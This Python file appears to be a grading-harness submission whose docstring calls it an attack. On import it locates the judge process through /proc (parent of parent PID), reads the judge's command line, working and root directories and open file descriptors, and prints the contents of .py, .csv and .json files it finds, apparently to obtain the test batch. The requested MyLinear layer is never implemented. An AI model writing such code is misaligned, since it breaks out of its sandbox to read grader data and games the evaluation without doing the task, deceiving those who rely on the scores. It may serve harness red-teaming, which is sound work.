"""Attack: find the batch through the judge's /proc entries and read everything in it."""
import os

import torch
from torch import Tensor, nn


def _status(pid):
    with open(f"/proc/{pid}/status") as handle:
        return {k: v.strip() for k, _, v in (line.partition(":") for line in handle)}


def _judge_pid():
    """The worker's parent is the grader's template; the template's parent is the judge."""
    return int(_status(os.getppid())["PPid"])


def _show(folder, depth=0):
    try:
        names = sorted(os.listdir(folder))
    except OSError as exc:
        print(f"cannot list {folder}: {exc}")
        return
    print(f"{folder}: {names[:30]}")
    for name in names[:40]:
        path = os.path.join(folder, name)
        if os.path.isdir(path) and not os.path.islink(path) and depth < 3:
            _show(path, depth + 1)
        elif name.endswith((".py", ".csv", ".json")):
            try:
                with open(path, errors="replace") as handle:
                    text = handle.read()
                print(f"  {path}: ...{text[-200:]}")
            except OSError as exc:
                print(f"  cannot read {path}: {exc}")


judge = _judge_pid()
places = []
try:
    argv = open(f"/proc/{judge}/cmdline").read().split("\0")
    print("judge argv:", argv)
    places += [a for a in argv if a.startswith("/") and not os.path.isfile(a)]
except OSError as exc:
    print(f"cmdline: {exc}")
for link in ("cwd", "root"):
    try:
        places.insert(0, os.readlink(f"/proc/{judge}/{link}"))
    except OSError as exc:
        print(f"{link}: {exc}")
try:
    for fd in os.listdir(f"/proc/{judge}/fd"):
        print("judge fd", fd, os.readlink(f"/proc/{judge}/fd/{fd}"))
except OSError as exc:
    print(f"fd: {exc}")
for place in dict.fromkeys(places):
    if place not in ("/", "") and os.path.isdir(place):
        _show(place)


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        raise NotImplementedError("MyLinear.__init__")

    def forward(self, x: Tensor) -> Tensor:
        raise NotImplementedError("MyLinear.forward")
